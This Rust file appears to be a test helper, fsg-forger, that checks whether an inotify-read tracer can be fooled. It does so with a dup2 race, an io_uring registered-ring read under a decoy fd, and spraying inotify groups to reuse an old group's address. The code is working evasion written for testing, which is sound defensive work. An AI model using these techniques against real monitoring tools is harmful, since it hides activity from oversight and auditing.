//! `fsg-forger MODE WATCHED DECOY`: an unprivileged reader that tries to make a tracer of
//! its reads name the wrong group, so that an event of WATCHED is shown with a path under
//! DECOY. It makes two inotify groups, the real one watching WATCHED and a decoy watching
//! DECOY (IN_CREATE each, so both have watch descriptor 1), prints
//! `fds REAL DECOY` and waits for a line on stdin (the test looks the groups up meanwhile),
//! then:
//!
//! - `dup2`: a second thread blocks in read(2) on the real group's fd; once it is blocked,
//!   the main thread dup2()s the decoy over that fd. Prints `armed` and waits for the read,
//!   which takes the real group's event.
//! - `uring`: registers the io_uring's own fd at a registered-ring index, dup2()s the decoy
//!   over the fd of that number, prints `armed`, waits until the real group has an event
//!   and reads it with one IORING_OP_READ through `io_uring_enter(INDEX,
//!   IORING_ENTER_REGISTERED_RING)`: the read (of a non-blocking fd, with an event queued)
//!   completes inline, in a syscall whose first argument names the decoy's fd.
//!
//! Both then print `read N NAME` (the bytes read, the name of the first event) and keep
//! their groups open until stdin ends.
//!
//! `reuse WATCHED DECOY` instead tries to inherit what a tracer cached of another group: it
//! watches DECOY with one group (`old FD`), reads one event of it after a line on stdin
//! (`read N NAME`), then on each line `spray` closes its groups and opens [`SPRAY`] new ones
//! watching WATCHED (`new FD...`), so that one likely gets the old one's address, until a
//! line `go FD` names the one to read an event of. The test finds the addresses with `list`.
//! Started as root, it first becomes nobody (65534), as an attacker on the machine would be.

use std::ffi::CString;
use std::io::BufRead;
use std::process::exit;
use std::time::{Duration, Instant};

fn die(what: &str) -> ! {
    eprintln!("fsg-forger: {what}: {}", std::io::Error::last_os_error());
    exit(1)
}

fn usage() -> ! {
    eprintln!("usage: fsg-forger dup2|uring|reuse WATCHED DECOY");
    exit(2)
}

/// An inotify group watching `dir` for IN_CREATE; its fd.
fn group(dir: &str, flags: i32) -> i32 {
    let path = CString::new(dir).unwrap_or_else(|_| usage());
    // SAFETY: plain syscalls; path is a valid C string.
    let fd = unsafe { libc::inotify_init1(libc::IN_CLOEXEC | flags) };
    if fd < 0 || unsafe { libc::inotify_add_watch(fd, path.as_ptr(), libc::IN_CREATE) } != 1 {
        die("inotify");
    }
    fd
}

fn say(line: &str) {
    use std::io::Write;
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}");
    let _ = out.flush();
}

/// The name of the first inotify event in `buf`.
fn first_name(buf: &[u8]) -> String {
    let len = buf.get(12..16).map_or(0, |b| u32::from_ne_bytes(b.try_into().unwrap()) as usize);
    let name = buf.get(16..16 + len).unwrap_or(&[]);
    String::from_utf8_lossy(name.split(|&b| b == 0).next().unwrap_or(&[])).into_owned()
}

/// Waits (10 s at most) until thread `tid` of this process is blocked in read(2).
fn wait_blocked_in_read(tid: i32) {
    let deadline = Instant::now() + Duration::from_secs(10);
    let path = format!("/proc/self/task/{tid}/syscall");
    loop {
        let sc = std::fs::read_to_string(&path).unwrap_or_default();
        if sc.split_whitespace().next() == Some(&libc::SYS_read.to_string()) {
            return;
        }
        if Instant::now() > deadline {
            eprintln!("fsg-forger: the reading thread never blocked in read: {sc}");
            exit(1);
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

fn dup2_race(real: i32, decoy: i32) -> Vec<u8> {
    let (send, recv) = std::sync::mpsc::channel();
    let reader = std::thread::spawn(move || {
        // SAFETY: gettid has no preconditions.
        send.send(unsafe { libc::gettid() }).unwrap();
        let mut buf = vec![0u8; 4096];
        // SAFETY: reads into our own buffer.
        let n = unsafe { libc::read(real, buf.as_mut_ptr().cast(), buf.len()) };
        if n < 0 {
            die("read");
        }
        buf.truncate(n as usize);
        buf
    });
    wait_blocked_in_read(recv.recv().unwrap());
    // SAFETY: both fds are ours; the blocked read keeps its reference to the real group's file.
    if unsafe { libc::dup2(decoy, real) } != real {
        die("dup2");
    }
    say("armed");
    reader.join().unwrap()
}

/// The registered-ring index the read is submitted through; the decoy is dup2()ed to this fd.
const RING_INDEX: i32 = 9;

fn uring_read(real: i32, decoy: i32) -> Vec<u8> {
    use fsg_test_helpers::uring::{Ring, IORING_ENTER_REGISTERED_RING};
    let fail = |e: std::io::Error| -> ! {
        eprintln!("fsg-forger: {e}");
        exit(1)
    };
    let ring = Ring::new().unwrap_or_else(|e| fail(e));
    ring.register_at(RING_INDEX as u32).unwrap_or_else(|e| fail(e));
    // SAFETY: our fds; RING_INDEX now names the decoy in the fd table.
    if unsafe { libc::dup2(decoy, RING_INDEX) } != RING_INDEX {
        die("dup2");
    }
    say("armed");
    // Inline completion needs the event queued before the submission.
    let mut pfd = libc::pollfd { fd: real, events: libc::POLLIN, revents: 0 };
    // SAFETY: one pollfd of ours.
    if unsafe { libc::poll(&mut pfd, 1, 30_000) } != 1 {
        die("poll");
    }
    let mut buf = vec![0u8; 4096];
    let n = ring.read(real, &mut buf, RING_INDEX, IORING_ENTER_REGISTERED_RING).unwrap_or_else(|e| fail(e));
    buf.truncate(n);
    buf
}

/// Root becomes nobody, still able to read its own /proc/self/task/*/syscall.
fn become_nobody() {
    // SAFETY: plain credential syscalls of this single-threaded process.
    unsafe {
        if libc::geteuid() != 0 {
            return;
        }
        if libc::setgroups(0, std::ptr::null()) != 0 || libc::setgid(65534) != 0 || libc::setuid(65534) != 0 {
            die("becoming nobody");
        }
        libc::prctl(libc::PR_SET_DUMPABLE, 1);
    }
}

/// A blocking read of one batch of events from `fd`.
fn read_events(fd: i32) -> Vec<u8> {
    let mut buf = vec![0u8; 4096];
    // SAFETY: reads into our own buffer.
    let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
    if n < 0 {
        die("read");
    }
    buf.truncate(n as usize);
    buf
}

/// Groups a `spray` opens: under the 128 instances a user may hold by default.
const SPRAY: usize = 100;

fn reuse(watched: &str, decoy: &str) {
    let mut line = String::new();
    let mut next_line = || {
        line.clear();
        if std::io::stdin().lock().read_line(&mut line).unwrap_or(0) == 0 {
            exit(1);
        }
        line.trim().to_string()
    };
    let old = group(decoy, 0);
    say(&format!("old {old}"));
    next_line();
    let read = read_events(old);
    say(&format!("read {} {}", read.len(), first_name(&read)));
    let mut open = vec![old];
    let fd = loop {
        let said = next_line();
        if let Some(fd) = said.strip_prefix("go ") {
            break fd.parse::<i32>().unwrap_or_else(|_| usage());
        }
        for fd in open.drain(..) {
            // SAFETY: our own fds.
            unsafe { libc::close(fd) };
        }
        open = (0..SPRAY).map(|_| group(watched, 0)).collect();
        say(&format!("new {}", open.iter().map(i32::to_string).collect::<Vec<_>>().join(" ")));
    };
    let read = read_events(fd);
    say(&format!("read {} {}", read.len(), first_name(&read)));
    next_line();
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [mode, watched, decoy] = &args[..] else { usage() };
    become_nobody();
    if mode == "reuse" {
        reuse(watched, decoy);
        return;
    }
    // io_uring reads a file that is not O_NONBLOCK in an io-wq worker: non-blocking, an
    // event already queued is read inline, in io_uring_enter.
    let nonblock = if mode == "uring" { libc::IN_NONBLOCK } else { 0 };
    let (real, fake) = (group(watched, nonblock), group(decoy, 0));
    say(&format!("fds {real} {fake}"));
    let mut line = String::new();
    if std::io::stdin().lock().read_line(&mut line).unwrap_or(0) == 0 {
        exit(1);
    }
    let read = match mode.as_str() {
        "dup2" => dup2_race(real, fake),
        "uring" => uring_read(real, fake),
        _ => usage(),
    };
    say(&format!("read {} {}", read.len(), first_name(&read)));
    let _ = std::io::stdin().lock().read_line(&mut line);
}
